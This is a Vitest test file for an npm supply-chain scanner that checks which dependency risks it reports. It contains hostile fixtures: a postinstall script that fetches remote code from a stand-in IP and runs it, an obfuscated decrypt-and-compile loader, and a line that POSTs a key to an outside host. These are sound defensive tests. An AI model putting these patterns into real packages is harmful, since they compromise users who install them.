import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { inspectRelease, dependencyPorts } from '../../src/inspections/inspect-release.ts';
import type { Inspection } from '../../src/inspections/inspection.ts';
import type { DependencyLimits } from '../../src/inspections/look-at-dependencies.ts';
import { openSandboxes, type Sandboxes } from '../../src/inspections/sandboxes.ts';
import { defaultPolicy } from '../../src/policies/policy.ts';
import { openNpmRegistry } from '../../src/registries/npm/npm-registry.ts';
import { findPredecessor } from '../../src/releases/find-predecessor.ts';
import { observedRelease } from '../../src/releases/observed-release.ts';
import { formatPurl } from '../../src/watchlists/purl.ts';
import {
  answerStatus,
  neverAnswer,
  startFakeNpmRegistry,
  type FakeNpmRegistry,
} from '../support/fake-npm-registry.ts';
import { startSandboxHere } from '../support/sandbox-in-process.ts';

const entry = new URL('../../workers/sandbox/profile-artifact.ts', import.meta.url);
const now = '2026-06-17T12:00:00.000Z';
const years = (count: number) => `${2026 - count}-01-01T00:00:00.000Z`;

let sandboxes: Sandboxes;
let registry: FakeNpmRegistry;

beforeAll(() => {
  // One only: the look at a dependency must not wait for the sandbox of the release that needs it.
  sandboxes = openSandboxes({ entry, concurrency: 1, startOne: startSandboxHere });
});

afterAll(() => sandboxes.close());

beforeEach(async () => {
  registry = await startFakeNpmRegistry();
});

afterEach(async () => {
  await registry.stop();
});

/** Publishes the two releases of a package that differ in what they need, and maybe in their code. */
function publishPair(dependencies: Record<string, string>, code = 'exports.run = () => 1;'): void {
  const manifest = { name: 'acme-mcp', main: 'index.js' };
  const files = (version: string, more: object, text: string) => ({
    'package.json': JSON.stringify({ ...manifest, version, ...more }),
    'index.js': text,
  });
  registry.publish('acme-mcp', '1.0.0', files('1.0.0', {}, 'exports.run = () => 1;'), {
    at: years(3),
  });
  registry.publish('acme-mcp', '1.0.1', files('1.0.1', { dependencies }, code), {
    at: '2026-06-17T02:00:00.000Z',
  });
}

async function inspect(limits: Partial<DependencyLimits> = {}): Promise<Inspection> {
  const npm = { registry: registry.url };
  const client = openNpmRegistry({ npm, version: 'test', attempts: 1 });
  const answer = await client.readPackument('acme-mcp');
  if (answer.status !== 'modified') throw new Error('not served');
  const { versions } = answer.packument;
  const release = versions.find(({ version }) => version === '1.0.1');
  const predecessor = findPredecessor('1.0.1', versions);
  if (release === undefined || predecessor === undefined) throw new Error('not published');
  const fetch = { download: { npm } };
  const dependencies = {
    ...dependencyPorts(fetch, { npm: client, pypi: client }).npm,
    now: () => new Date(now),
    limits,
  };
  return inspectRelease(
    { sandboxes, policy: defaultPolicy, ...fetch, dependenciesOf: { npm: dependencies } },
    {
      purl: formatPurl({ ecosystem: 'npm', name: 'acme-mcp', version: '1.0.1' }),
      release: observedRelease(release),
      predecessor: observedRelease(predecessor),
      firstSight: false,
    },
  );
}

function told({ findings }: Inspection, rule: string) {
  return findings.filter((finding) => finding.rule === rule);
}

const bait = 'exports.format = (date) => date.toISOString().slice(0, 10);\n';
const setup = `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const { spawn } = require('node:child_process');
fetch('https://198.51.100.7:8000/update/49890878').then((answer) => answer.text()).then((text) => {
  require('node:fs').writeFileSync('/tmp/next.js', text);
  spawn(process.execPath, ['/tmp/next.js'], { detached: true, stdio: 'ignore' }).unref();
});
`;

describe('one line of the manifest', () => {
  test('that brings a package whose newest version strikes at installation is told with the cause', async () => {
    registry.publish(
      'easy-days-js',
      '1.11.21',
      { 'index.js': bait },
      { at: '2026-06-16T07:05:00.000Z' },
    );
    registry.publish(
      'easy-days-js',
      '1.11.22',
      {
        'package.json': JSON.stringify({
          name: 'easy-days-js',
          version: '1.11.22',
          scripts: { postinstall: 'node setup.cjs --no-warnings' },
        }),
        'index.js': bait,
        'setup.cjs': setup,
      },
      { at: '2026-06-17T01:01:00.000Z' },
    );
    publishPair({ 'easy-days-js': '^1.11.21' });
    const inspection = await inspect();
    const [alarming] = told(inspection, 'dependency-alarming');
    expect(alarming).toMatchObject({ severity: 'critical' });
    expect(alarming?.title).toContain('The new dependency easy-days-js 1.11.22');
    expect(alarming?.title).toContain('node setup.cjs');
    expect(alarming?.evidence.map(({ path }) => path)).toContain(
      'node_modules/easy-days-js/setup.cjs',
    );
    const [added] = told(inspection, 'dependency-added');
    expect(added).toMatchObject({ severity: 'high' });
    expect(added?.title).toContain('19 hours old');
    expect(added?.reasons).toContain('The registry does not serve who published it.');
    expect(inspection.outcome).toBe('findings');
    expect(inspection.unread).toEqual([]);
  });

  test('that brings a package whose later version decodes and compiles text is told', async () => {
    const minified = 'exports.flat=function(a){return[].concat.apply([],a)};';
    registry.publish(
      'flat-streams',
      '0.1.0',
      { 'index.js': minified },
      { at: '2026-05-05T00:00:00Z' },
    );
    registry.publish(
      'flat-streams',
      '0.1.1',
      {
        'index.js': `${minified}
!function(){try{var r=require,t=process;function e(n){return Buffer.from(n,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(n){}}();`,
        'test/data.js': `module.exports = ["${'75d4c87f3f69e0fa292969072c49dff4'.repeat(20)}"];`,
      },
      { at: '2026-06-05T00:00:00Z' },
    );
    publishPair(
      { 'flat-streams': '^0.1.0' },
      "const flat = require('flat-streams');\nexports.run = () => flat.flat([[1]]);",
    );
    const inspection = await inspect();
    const loud = inspection.findings.filter(({ severity }) =>
      ['high', 'critical'].includes(severity),
    );
    expect(loud.length).toBeGreaterThan(0);
    expect(loud.map(({ title }) => title).join('\n')).toContain('flat-streams');
  });

  test('that brings an honest package with a past stays quiet', async () => {
    for (let version = 0; version < 12; version += 1) {
      registry.publish(
        'weather-words',
        `2.${version}.0`,
        {
          'index.js': `exports.say = () => fetch('https://api.weather-words.example/v${version}');`,
        },
        { at: years(4) },
      );
    }
    publishPair(
      { 'weather-words': '^2.0.0' },
      "import { say } from 'weather-words';\nexport const run = () => say();",
    );
    const inspection = await inspect();
    expect(inspection.outcome).toBe('findings');
    expect(told(inspection, 'dependency-added')).toMatchObject([{ severity: 'info' }]);
    expect(
      inspection.findings.filter(({ severity }) => !['info', 'low'].includes(severity)),
    ).toEqual([]);
  });

  test('that renames a dependency to another package is looked at like a new one', async () => {
    registry.publish('other-things', '1.0.0', { 'index.js': bait }, { at: '2026-06-16T00:00:00Z' });
    publishPair({ things: 'npm:other-things@^1.0.0' });
    const [added] = told(await inspect(), 'dependency-added');
    expect(added).toMatchObject({ severity: 'high' });
    expect(registry.countRequests('other-things')).toBe(1);
    expect(registry.countRequests('things')).toBe(0);
  });
});

describe('what could not be learned is said', () => {
  test('when the registry does not answer for it', async () => {
    publishPair({ 'some-words': '^1.0.0', 'other-words': '^1.0.0' });
    registry.publish('other-words', '1.0.0', { 'index.js': bait }, { at: years(2) });
    registry.misbehave('some-words', answerStatus(500), 20);
    const inspection = await inspect();
    expect(inspection.outcome).toBe('incomplete');
    expect(inspection.unread).toMatchObject([
      { path: 'node_modules/some-words', reason: 'dependency-not-looked-at' },
    ]);
    const titles = told(inspection, 'dependency-added').map(({ reasons }) => reasons.join(' '));
    expect(titles.some((text) => text.includes('It could not be looked at'))).toBe(true);
    expect(registry.countRequests('other-words')).toBe(1);
  });

  test('when it takes too long', async () => {
    publishPair({ 'slow-words': '^1.0.0' });
    registry.misbehave('slow-words', neverAnswer(), 20);
    const inspection = await inspect({ timeoutMs: 300 });
    expect(inspection.unread).toMatchObject([
      {
        path: 'node_modules/slow-words',
        reason: 'dependency-not-looked-at',
        detail: expect.stringContaining('time'),
      },
    ]);
  });

  test('when there are too many of them, names that everybody knows last', async () => {
    registry.publish('acme-words', '1.0.0', { 'index.js': bait }, { at: years(2) });
    publishPair({ zod: '^4.0.0', lodash: '^4.0.0', 'acme-words': '^1.0.0' });
    const inspection = await inspect({ maxDependencies: 1 });
    expect(inspection.unread.map(({ path }) => path)).toEqual([
      'node_modules/lodash',
      'node_modules/zod',
    ]);
    expect(registry.countRequests('acme-words')).toBe(1);
    expect(registry.countRequests('zod')).toBe(0);
  });

  test('when nobody has published it', async () => {
    publishPair({ 'acme-inner-words': '^1.0.0' }, 'exports.run = () => 2;');
    const inspection = await inspect();
    const [added] = told(inspection, 'dependency-added');
    expect(added).toMatchObject({ severity: 'medium' });
    expect(added?.reasons.join(' ')).toContain('the registry has no such package');
    expect(inspection.unread).toEqual([]);
  });

  test('when its archive cannot be had', async () => {
    registry.publish('acme-words', '1.0.0', { 'index.js': bait }, { at: years(2) });
    publishPair({ 'acme-words': '^1.0.0' });
    registry.misbehave('acme-words/-/acme-words-1.0.0.tgz', answerStatus(404), 10);
    expect((await inspect()).unread).toMatchObject([{ reason: 'dependency-not-looked-at' }]);
  });
});

test('findings keep the changes that were drawn before dependencies were looked at', async () => {
  registry.publish('acme-words', '1.0.0', { 'index.js': bait }, { at: years(2) });
  publishPair(
    { 'acme-words': '^1.0.0' },
    "exports.run = (key) => fetch('https://in.stranger.invalid/v1', { method: 'POST', body: key });",
  );
  const [destination] = told(await inspect(), 'destination-added');
  expect(destination?.evidence[0]?.hunk).toContain('+exports.run');
});
